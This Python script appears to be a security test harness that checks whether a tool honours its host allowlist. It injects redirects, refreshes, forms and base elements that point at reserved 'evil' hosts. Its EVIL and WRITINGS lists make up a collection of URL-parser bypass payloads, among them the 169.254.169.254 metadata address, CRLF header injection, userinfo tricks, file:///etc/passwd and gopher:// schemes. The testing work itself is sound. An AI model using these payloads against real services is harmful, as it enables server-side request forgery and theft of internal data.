#!/usr/bin/env python3
"""Attacks the host permission: redirects, forms, refreshes and base elements of a login lead to hosts that nobody allowed,
in every writing that some reader of addresses has got wrong. Two ways to see where requests go: a proxy that sees each
address asked for, and the addresses and errors in history.sqlite (an unlisted host has to end as host-not-allowed, or
without an address where its name is looked up first). An attempt is
one household that was led astray once. A control host that is allowed must be reached, or the attack is blind."""
import html
import os
import random
import re
import sqlite3

from peers import Answer, Attack, Proxy

EVIL = ["evil.test", "203.0.113.9", "[2001:db8::9]", "[::ffff:203.0.113.9]", "[::203.0.113.9]", "[64:ff9b::203.0.113.9]", "3405803785", "0xcb007109", "0313.0.0161.011", "203.0.28937",
        "localhost.evil.test", "127.0.0.1.evil.test", "127.0.0.1evil.test", "evil.test.", "EVIL.TEST", "ev\u0131l.test", "e\u00advil.test", "\uff45vil.test", "evil%2etest", "evil。test",
        "xn--evil-.test", "[::1%25eth0]", "[::1].evil.test", "0.0.0.0.evil.test", "127.0.0.1\u3002evil.test", "evil.test%00.localhost", "evil.test%23.localhost", "good.test.evil.test", "good.testevil.test",
        "sub.good.test", "good.test..", ".good.test", "*.good.test", "good.test\u200b", "good_.test", "ｇood.test", "1.1", "224.0.0.1", "169.254.169.254", "[fe80::1]", "[fc00::1]", "255.255.255.255", "[::2]",
        "128.0.0.1", "126.255.255.255", "127.0.0.1.", "127.1.evil", "0x7f.evil.test", "[0:0:0:0:0:ffff:a9fe:a9fe]", "[::ffff:a9fe:a9fe]", "[::7f00:1]"]
WRITINGS = ["http://{e}:{p}/x", "//{e}:{p}/x", "http:\\\\{e}:{p}\\x", "/\\{e}:{p}/x", "\\\\{e}:{p}/x", "http:/{e}:{p}/x", "http:{e}:{p}/x", "http:///{e}:{p}/x", "////{e}:{p}/x", "ht\ttp://{e}:{p}/x",
            "/\t/{e}:{p}/x", "\x01http://{e}:{p}/x", " http://{e}:{p}/x ", "http://{t}@{e}:{p}/x", "http://{t}:80@{e}:{p}/x", "http://{e}:{p}\\@{t}/x", "http://{t}\\@{e}:{p}/x", "http://{t}#@{e}:{p}/x",
            "http://{e}:{p}#@{t}/x", "http://{e}:{p}?@{t}/x", "http://{t}?@{e}:{p}/x", "http://{t}%40{e}:{p}/x", "http://{t}%2f@{e}:{p}/", "http://{t};@{e}:{p}/x", "http://a:b@c@{e}:{p}/x", "http://@{e}:{p}/x",
            "http://:@{e}:{p}/x", "HTTP://{e}:{p}/x", "https://{e}:{p}/x", "http://{e}:0{p}/x", "http://{e}:{p}:80/x", "http://{e}:+{p}/x", "http://{e}/x", "http://{e}:/x", "http://{e}:99999/", "http://{t} {e}:{p}/x",
            "http://{t}\t@{e}:{p}/x", "http://{t}\u2100{e}:{p}/x", "http://{t}/../../..//{e}:{p}/x", "/..//{e}:{p}/x", ".//{e}:{p}/x", "/.//{e}:{p}/x", "?//{e}:{p}/x", "file://{e}/etc/passwd", "file:///etc/passwd",
            "ftp://{e}:{p}/x", "gopher://{e}:{p}/_x", "javascript:location='http://{e}:{p}/'", "data:text/html,<form action=http://{e}:{p}/>", "view-source:http://{e}:{p}/", "ws://{e}:{p}/", "blob:http://{e}:{p}/",
            "http://{t}%0d%0aHost:%20{e}/x", "http://[{e}]:{p}/x", "http://{e}:{p}%2f@{t}/", "http://{t}&@{e}:{p}/", "http://{t}:@{e}:{p}/x", "http://{t}:{p}@{e}/x", "http://[::1]@{e}:{p}/x", "http://[::1]{e}:{p}/x",
            "http://{e}:{p}/\r\nLocation: http://{e}/", "http://{t}, http://{e}:{p}/x", "dict://{e}:{p}/x", "unix:///tmp/x", "http+unix://{e}/x", "//{t}@{e}:{p}", "\ufeffhttp://{e}:{p}/x", "http\uff1a//{e}:{p}/x", "http:／／{e}:{p}/x"]
PLACES = ["location", "two locations", "location and html", "refresh", "refresh quoted", "refresh header", "form", "formaction", "base", "base form", "303", "307", "content-location", "location status", "api", "logout"]


def page(inside, head=""):
    return f"<html><head><meta charset=utf-8>{head}<title>x</title></head><body>{inside}</body></html>".encode("utf-8", "surrogatepass")


def stray(place, address, answer, request):
    """The healthy answer, made to lead to the address."""
    esc = html.escape(address, quote=True)
    fields = "<input name=user><input type=password name=pass><input type=hidden name=SAMLResponse value=x>"
    kept = [h for h in answer.headers if h[0].lower() == "set-cookie"]
    made = Answer(302, kept + [("Location", address.replace("\r\n", "\r"))], b"")
    if place == "two locations":
        made.headers = [("Location", "/adobe-services/x")] + made.headers if len(address) % 2 else made.headers + [("Location", "/x")]
    elif place in ("303", "307"):
        made.status = int(place) if len(address) % 3 else 308
    elif place == "location status":
        made.status = [200, 201, 300, 304, 305, 306, 399, 401, 503][len(address) % 9]
    elif place != "location" and place not in ("api", "logout"):
        made = Answer(200, kept + [("Content-Type", "text/html; charset=utf-8")], b"")
        if place == "location and html":
            made.status, made.body = 302, page(f"<form action='{esc}' method=post>{fields}</form>")
        elif place == "refresh":
            made.body = page("", f"<meta http-equiv=refresh content=\"0;url={esc}\">")
        elif place == "refresh quoted":
            made.body = page("", f"<meta http-equiv=\"Refresh\" content=\"0 , URL = '{esc}' x\">")
        elif place == "refresh header":
            made.headers.append(("Refresh", f"0; url={address}".replace("\r\n", "")))
        elif place == "content-location":
            made.headers.append(("Content-Location", address.replace("\r\n", "")))
            made.body = page(f"<form method=post action=x>{fields}</form>")
        elif place == "form":
            made.body = page(f"<form action=\"{esc}\" method=post>{fields}</form>" + "<script>document.forms[0].submit()</script>" * (len(address) % 2))
        elif place == "formaction":
            made.body = page(f"<form action=/ok method=post>{fields}<button formaction=\"{esc}\">go</button></form>")
        elif place == "base":
            made.body = page(f"<form action=login method=post>{fields}</form>", f"<base href=\"{esc}\">")
        elif place == "base form":
            made.body = page(f"<form method=get>{fields}</form><base href=\"{esc}\">")
    return made


def allowed(host):
    """Whether an address asked for is the rig's own, loopback, or on the list."""
    host = re.sub(r":\d*$", "", host.lower()).strip("[]")
    return host in ("localhost", "good.test", "::1", "") or host.startswith("127.") and re.fullmatch(r"127\.\d+\.\d+\.\d+", host)


def main():
    attack = Attack(__doc__, 1000)
    port = attack.serve()
    plan, told, strays, control = {}, [], [], []

    def hook(request, answer):
        absolute = re.match(r"^[a-z]+://([^/?#]*)", request.target, re.I)
        for host in [request.values.get("host", "")] + ([absolute.group(1)] if absolute else []) + ([request.target] if request.method == "CONNECT" else []):
            if "@" in host or not allowed(host):
                strays.append((request.household, host, request.method, request.target[:200]))
            if host.startswith("good.test"):
                control.append(host)
        place, address, at = plan.get(request.household, ("", "", ""))
        if request.operation == at and address:
            if len(told) < 500:
                told.append((request.household, at, place, address))
            return stray(place, address, answer, request).raw()
        return answer.raw()

    proxy = Proxy(port, hook)
    while attack.attempts < attack.options.count:
        batch, households = attack.starts, 40
        rng = random.Random(f"{attack.options.seed}/{batch}")
        plan.clear(), told.clear(), strays.clear()
        way = rng.choice(["proxy", "proxy", "pinned", "plain"])
        base = f"http://127.0.0.1:{proxy.port}"
        for household in range(households):
            host = "good.test" if household == 0 else rng.choice(EVIL)
            writing = "http://{e}:{p}/x" if household == 0 else rng.choice(WRITINGS)
            place = "location" if household == 0 else rng.choice(PLACES)
            at = {"api": rng.choice(["registration-code", "configuration", "poll-token", "register-client", "access-token"]), "logout": "logout"}.get(place, rng.choice(["authenticate", "mvpd-login", "assertion"]))
            text = writing.replace("{e}", host).replace("{p}", str(proxy.port)).replace("{t}", rng.choice([f"127.0.0.1:{proxy.port}", "good.test", "127.0.0.1", "localhost"]))
            plan[household] = (place, text, "authenticate" if household == 0 else at)
        # A name pinned to loopback is loopback: only good.test, which is allowed anyway, is pinned.
        target = "  allow: [good.test]\n"
        target += f"  proxy: http://127.0.0.1:{proxy.port}\n" if way == "proxy" else "  resolve: {good.test: [127.0.0.1]}\n"
        folder = attack.folder()
        attack.rig(folder, base if way != "pinned" else f"http://good.test:{proxy.port}", households, engine="auto" if way == "proxy" else rng.choice(["direct", "multi"]), target=target)
        arguments = ["run", "rig.yaml", "--out", "out", "--quiet"]
        control.clear()
        result = attack.run(arguments, folder, timeout=80)
        attack.attempts += households
        attack.judge(f"batch {batch} {way}", result, arguments, folder, note=told)
        if strays:
            attack.find("high", f"batch {batch} {way}", "a request to a host that was not allowed", arguments, folder, [(s, plan.get(s[0])) for s in strays][:6], result)
        if way in ("pinned", "proxy") and not control:
            attack.find("blind", f"batch {batch} {way}", "the allowed control host was not reached", arguments, folder, result.text[:300], result)
        try:
            with sqlite3.connect(os.path.join(folder, "out", "history.sqlite")) as history:
                for (error, detail) in history.execute("SELECT DISTINCT error, error_detail FROM exchanges WHERE error IS NOT NULL"):
                    if error not in ("host-not-allowed", "name-not-resolved") and re.search(r"(?<!good\.)evil|203\.|2001|169\.254", detail or ""):
                        attack.find("medium", f"batch {batch} {way}", f"tried: {error}: {detail}", arguments, folder, told, result)
                for (remote,) in history.execute("SELECT DISTINCT remote FROM exchanges WHERE remote IS NOT NULL"):
                    if not re.match(r"127\.|\[::1\]|::1", remote):
                        attack.find("high", f"batch {batch} {way}", f"connected to {remote}", arguments, folder, told, result)
        except sqlite3.Error as error:
            attack.find("medium", f"batch {batch} {way}", f"no history: {error}", arguments, folder, result.text[:500], result)
    attack.end()


if __name__ == "__main__":
    main()
